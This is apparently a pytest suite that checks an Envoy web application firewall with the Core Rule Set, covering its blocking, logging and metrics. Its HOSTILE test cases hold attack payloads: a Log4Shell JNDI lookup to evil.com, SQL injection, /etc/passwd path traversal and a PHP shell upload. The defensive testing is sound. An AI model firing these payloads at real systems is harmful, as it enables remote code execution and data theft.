"""Benign and hostile requests through the real Envoy, in every body mode that blocks."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from functools import partial
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from demo.stack import Stack, find_crs, waf_filter
from tests.asking import total
from tests.envoy.conftest import BODY_MODES, BROWSER
from tests.waiting import eventually

SQLI = "1' or '1'='1' -- "
JNDI = "${jndi:ldap://evil.com/a}"


def multipart(name: str, filename: str, content: bytes) -> tuple[bytes, dict[str, str]]:
    body = (
        b"--b0undary\r\n"
        + f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'.encode()
        + b"Content-Type: application/octet-stream\r\n\r\n"
        + content
        + b'\r\n--b0undary\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--b0undary--\r\n'
    )
    return body, {"Content-Type": "multipart/form-data; boundary=b0undary"}


FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
XML = {"Content-Type": "text/xml"}
BENIGN: dict[str, dict[str, Any]] = {
    "query": {"method": "GET", "url": "/hello?name=Ada&page=2"},
    "cookie": {"method": "GET", "url": "/hello", "headers": {"Cookie": "session=4711; theme=dark"}},
    "form": {"method": "POST", "url": "/login", "content": b"user=ada&note=hello+world", "headers": FORM},
    "json": {"method": "POST", "url": "/api", "content": b'{"user": "ada", "items": [1, 2]}', "headers": JSON},
    "xml": {"method": "POST", "url": "/api", "content": b"<a><b c='d'>hello</b></a>", "headers": XML},
    "upload": dict(zip(("content", "headers"), multipart("f", "photo.jpg", bytes(range(256)) * 40), strict=True))
    | {"method": "POST", "url": "/upload"},
    "no body": {"method": "POST", "url": "/api", "headers": {"Content-Length": "0"}},
    "head": {"method": "HEAD", "url": "/hello"},
    "204": {"method": "GET", "url": "/status/204"},
    "304": {"method": "GET", "url": "/status/304"},
}
HOSTILE: dict[str, dict[str, Any]] = {
    "query": {"method": "GET", "url": f"/hello?name={quote(JNDI)}"},
    "path": {"method": "GET", "url": "/hello/%2e%2e%2f%2e%2e%2fetc/passwd"},
    "header": {"method": "GET", "url": "/hello", "headers": {"X-Api-Version": JNDI}},
    "cookie": {"method": "GET", "url": "/hello", "headers": {"Cookie": f"id={quote(SQLI)}"}},
    "cookie behind a copy": {
        "method": "GET",
        "url": "/hello",
        "headers": {"Cookie": f"id={quote(SQLI)}", "X-Envoy-Waf-Original-Cookie": "id=1"},
    },
    "form": {"method": "POST", "url": "/login", "content": f"user={quote(SQLI)}".encode(), "headers": FORM},
    "json": {"method": "POST", "url": "/api", "content": json.dumps({"a": {"b": [SQLI]}}).encode(), "headers": JSON},
    "xml": {"method": "POST", "url": "/api", "content": f"<a><b>{JNDI}</b></a>".encode(), "headers": XML},
    "xml attribute": {"method": "POST", "url": "/api", "content": f"<a b='{JNDI}'/>".encode(), "headers": XML},
    "upload": dict(zip(("content", "headers"), multipart("f", "shell.php", b"<?php"), strict=True))
    | {"method": "POST", "url": "/upload"},
    "leak": {"method": "GET", "url": "/leak"},
    "compressed leak": {"method": "GET", "url": "/leak?compressed=1", "headers": {"Accept-Encoding": "gzip"}},
}


def chunked(content: bytes) -> Any:
    """The body in pieces, without a length."""
    for start in range(0, len(content), 7):
        yield content[start : start + 7]


@pytest.mark.parametrize("mode", [pytest.param(m, marks=pytest.mark.xdist_group(m)) for m in BODY_MODES])
@pytest.mark.parametrize("name", BENIGN)
def test_benign_request_passes(stacks: Callable[..., Stack], browser: httpx.Client, mode: str, name: str) -> None:
    stack = stacks(mode)
    request = BENIGN[name] | {"url": stack.url + BENIGN[name]["url"]}
    answer = browser.request(**request)
    assert answer.status_code == (int(name) if name.isdigit() else 200), stack.sidecar.tail()
    if "content" in request:
        assert answer.json()["sha256"] == hashlib.sha256(request["content"]).hexdigest()


@pytest.mark.parametrize("mode", [pytest.param(m, marks=pytest.mark.xdist_group(m)) for m in BODY_MODES])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_request_is_refused(stacks: Callable[..., Stack], browser: httpx.Client, mode: str, name: str) -> None:
    stack = stacks(mode)
    answer = browser.request(**HOSTILE[name] | {"url": stack.url + HOSTILE[name]["url"]})
    assert answer.status_code == 403, stack.sidecar.tail()
    assert answer.text.startswith("Forbidden. Reference: ")


@pytest.mark.parametrize("mode", [pytest.param(m, marks=pytest.mark.xdist_group(m)) for m in BODY_MODES])
def test_chunked_bodies_are_judged(stacks: Callable[..., Stack], browser: httpx.Client, mode: str) -> None:
    stack = stacks(mode)
    good, bad = BENIGN["form"]["content"], HOSTILE["form"]["content"]
    passed = browser.post(stack.url + "/login", content=chunked(good), headers=FORM)
    assert passed.status_code == 200, stack.sidecar.tail()
    assert passed.json()["sha256"] == hashlib.sha256(good).hexdigest()
    assert browser.post(stack.url + "/login", content=chunked(bad), headers=FORM).status_code == 403


@pytest.mark.parametrize("mode", [pytest.param(m, marks=pytest.mark.xdist_group(m)) for m in BODY_MODES])
def test_http2_downstream(stacks: Callable[..., Stack], mode: str) -> None:
    stack = stacks(mode)
    with httpx.Client(headers=BROWSER, http1=False, http2=True, timeout=20) as client:
        for expected, cases in ((200, BENIGN), (403, HOSTILE)):
            for name in ("query", "form", "json"):
                answer = client.request(**cases[name] | {"url": stack.url + cases[name]["url"]})
                assert (answer.http_version, answer.status_code) == ("HTTP/2", expected), name


@pytest.mark.xdist_group("buffered")
def test_expect_100_continue(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered")
    headers = FORM | {"Expect": "100-continue"}
    # Envoy answers it, and takes the header away: to CRS it would be a restricted one.
    answer = browser.post(stack.url + "/login", content=b"user=ada", headers=headers)
    assert answer.status_code == 200
    assert answer.json()["length"] == 8
    assert browser.post(stack.url + "/login", content=b"user=ada", headers=FORM).status_code == 200


@pytest.mark.xdist_group("streamed")
def test_detection_only_passes_everything_and_says_so(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("streamed", mode="DetectionOnly")
    for name, case in HOSTILE.items():
        answer = browser.request(**case | {"url": stack.url + case["url"]})
        assert answer.status_code in (200, 404), name
    assert eventually(lambda: stack.sidecar.text().count('"request would be blocked"') >= len(HOSTILE))


def test_envoy_that_only_observes_blocks_nothing_and_that_is_told() -> None:
    def observe(config: dict[str, Any], stack: Stack) -> None:
        waf_filter(config).update(observability_mode=True, deferred_close_timeout="0.5s")

    requests = "envoy_waf_requests_total{"
    with Stack("streamed", crs=find_crs(), edit=observe) as stack, httpx.Client(headers=BROWSER) as client:
        for _ in range(20):
            assert client.get(stack.url + "/hello?a=b").status_code == 200
        for name, case in HOSTILE.items():
            assert client.request(**case | {"url": stack.url + case["url"]}).status_code in (200, 404), name
        detected = 'policy="default",status="403",verdict="detected"}'
        assert eventually(lambda: total(stack.admin_port, f'{requests}phase="",{detected}') == len(HOSTILE))
        assert total(stack.admin_port, requests) == 20 + len(HOSTILE)
        assert total(stack.admin_port, "envoy_waf_stream_errors_total") == 0
        assert stack.sidecar.text().count("in observability_mode") == 1


@pytest.mark.xdist_group("buffered")
def test_responses_stay_compressed_and_may_be_left_so(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    def told(stack: Stack, series: str) -> bool:
        return series in httpx.get(f"http://127.0.0.1:{stack.admin_port}/metrics").text

    url, headers = "/leak?compressed=1", {"Accept-Encoding": "gzip"}
    left: dict[str, Any] = {"decompress_responses": False}
    for settings, verdict in (({"mode": "DetectionOnly"}, "detected"), (left, "pass")):
        stack = stacks("buffered", **settings)
        answer = browser.get(stack.url + url, headers=headers)
        assert (answer.status_code, answer.headers["content-encoding"]) == (200, "gzip")
        assert "an error in your SQL syntax" in answer.text
        series = f'policy="default",status="{403 if verdict == "detected" else ""}",verdict="{verdict}"'
        assert eventually(partial(told, stack, series))


@pytest.mark.xdist_group("buffered")
def test_baseline_blocks_too(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered", baseline=True)
    for expected, cases in ((200, BENIGN), (403, HOSTILE)):
        for name, case in cases.items():
            answer = browser.request(**case | {"url": stack.url + case["url"]})
            assert answer.status_code == (int(name) if name.isdigit() else expected), name


@pytest.mark.xdist_group("buffered")
def test_log_line_tells_who_what_and_why(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered")
    answer = browser.get(stack.url + f"/hello?probe={quote(JNDI)}")
    reference = answer.text.split()[-1]
    (text,) = eventually(lambda: [t for t in stack.sidecar.text().splitlines() if reference in t])
    line = json.loads(text)
    assert line["event"] == "request blocked"
    assert (line["client"], line["method"], line["status"]) == ("127.0.0.1", "GET", 403)
    assert line["score"] >= 5
    assert 944150 in [rule["id"] for rule in line["rules"]]


@pytest.mark.xdist_group("buffered")
def test_envoy_access_log_has_details_and_metadata(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered")
    browser.get(stack.url + f"/hello?logged={quote(JNDI)}")
    # Envoy writes its log in intervals.
    lines = eventually(lambda: [text for text in stack.envoy.text().splitlines() if "logged=" in text], 30)
    entry = json.loads(lines[0])
    assert entry["details"].startswith("envoy_waf_deny")
    assert entry["waf_action"] == "deny"
    assert 944150 in [int(number) for number in entry["waf_rules"]]
    assert entry["waf_score"] >= 5


@pytest.mark.xdist_group("detection")
def test_envoy_access_log_tells_what_would_be_blocked(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered", mode="DetectionOnly")
    assert browser.post(stack.url + "/hello?tuned=1", data={"a": JNDI}).status_code == 200
    lines = eventually(lambda: [text for text in stack.envoy.text().splitlines() if "tuned=" in text], 30)
    entry = json.loads(lines[0])
    assert (entry["status"], entry["waf_action"]) == (200, "detected")
    assert 944150 in [int(number) for number in entry["waf_rules"]]
    assert entry["waf_score"] >= 5


@pytest.mark.xdist_group("buffered")
def test_metrics_count_verdicts_and_rule_hits(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
    stack = stacks("buffered")

    def counter(pattern: str) -> float:
        text = browser.get(f"http://127.0.0.1:{stack.admin_port}/metrics").text
        found = re.search(pattern + r" ([0-9.e+]+)$", text, re.MULTILINE)
        return float(found.group(1)) if found else 0.0

    denied = r'envoy_waf_requests_total\{phase="2",policy="default",status="403",verdict="deny"\}'
    hits = r'envoy_waf_rule_hits_total\{id="944150"\}'
    before = counter(denied), counter(hits)
    browser.get(stack.url + f"/hello?m={quote(JNDI)}")
    assert eventually(lambda: counter(denied) == before[0] + 1)
    assert counter(hits) == before[1] + 1
    assert eventually(lambda: counter("envoy_waf_streams_in_flight") == 0)
    assert httpx.get(f"http://127.0.0.1:{stack.admin_port}/status").json()["ruleset"]["name"] == "crs"
